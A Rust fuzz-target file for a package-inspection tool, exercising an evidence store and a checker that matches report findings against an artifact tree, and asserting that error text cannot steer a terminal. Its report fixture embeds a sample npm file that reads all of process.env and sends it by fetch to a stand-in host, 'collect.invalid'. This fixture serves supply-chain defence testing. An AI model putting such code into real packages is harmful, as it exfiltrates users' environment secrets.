//! Bodies that read what registries said before and what is kept of it: the store of evidence,
//! and a report whose paths are checked against an artifact. The first byte chooses.

use customs_inspect::{Checker, Content, Entry, Kind, Tree};
use customs_model::{Digest, PackageName, ReleaseId, Verdict, Version, printable};
use customs_registry::evidence::EvidenceStore;
use std::path::PathBuf;

/// The key under which a store keeps something, as it hashes it.
fn place(kind: &str, key: &str) -> PathBuf {
    let hex = Digest::sha256(key.as_bytes()).to_hex();
    let (first, rest) = hex.split_at(2);
    PathBuf::from(kind).join(first).join(format!("{rest}.json"))
}

/// The store of evidence and reports.
///
/// # Panics
/// Where what is said steers a terminal, or what is read is of another artifact.
pub fn answers(data: &[u8]) {
    let Some((way, bytes)) = data.split_first() else {
        return;
    };
    match way % 4 {
        3 => report(bytes),
        way => store(way, bytes),
    }
}

fn store(way: u8, bytes: &[u8]) {
    let release: ReleaseId = "pkg:npm/a@1.0.0".parse().expect("a release");
    let package: &PackageName = &release.package;
    let artifact = Digest::sha256(b"artifact");
    let of_artifact = format!("{release}\n{artifact}");
    let path = match way {
        0 => place("artifacts", &of_artifact),
        1 => place("suspects", &of_artifact),
        _ => place("phantoms", &format!("{} {package}", package.ecosystem())),
    };
    let folder = tempfile::tempdir().expect("a folder");
    let path = folder.path().join(path);
    std::fs::create_dir_all(path.parent().expect("a folder")).expect("a folder");
    std::fs::write(&path, bytes).expect("a file");
    let store = EvidenceStore::new(folder.path());
    match store.read(&release, &artifact) {
        Ok(Some(found)) => {
            assert_eq!((&found.release, &found.artifact), (&release, &artifact));
            // What was read is written and read again.
            store.write(&found).expect("it is written");
            assert!(
                store
                    .read(&release, &artifact)
                    .expect("it is read")
                    .is_some()
            );
        }
        Ok(None) => {}
        Err(error) => plain(&error.to_string()),
    }
    let wanted = [release.clone()].into_iter().collect();
    let all = store.artifacts_of(&wanted);
    assert!(all.keys().all(|one| *one == release));
    if let Err(error) = store.suspects() {
        plain(&error.to_string());
    }
    let other = Version::new("0.9.0").expect("a version");
    if let Err(error) = store.phantoms(package, &other) {
        plain(&error.to_string());
    }
}

/// A verdict of a report, as `customs evidence` checks it.
fn report(bytes: &[u8]) {
    let Ok(verdict) = serde_json::from_slice::<Verdict>(bytes) else {
        return;
    };
    let code = "const all = process.env;\nfetch('https://collect.invalid', {body: all});\n";
    let tree = Tree {
        entries: vec![Entry {
            path: "package/a.js".to_owned(),
            content: Content::Whole(code.as_bytes().into()),
            length: code.len() as u64,
            kind: Kind::Text,
            executable: false,
        }],
        ..Tree::default()
    };
    let mut checker = Checker::of(&tree);
    for finding in &verdict.findings {
        match checker.check(&finding.path) {
            Ok(checked) => assert!(checked.shown <= checked.steps),
            Err(mismatch) => plain(&mismatch.to_string()),
        }
    }
}

fn plain(text: &str) {
    assert_eq!(
        printable(text, usize::MAX),
        text,
        "what is said steers a terminal"
    );
}
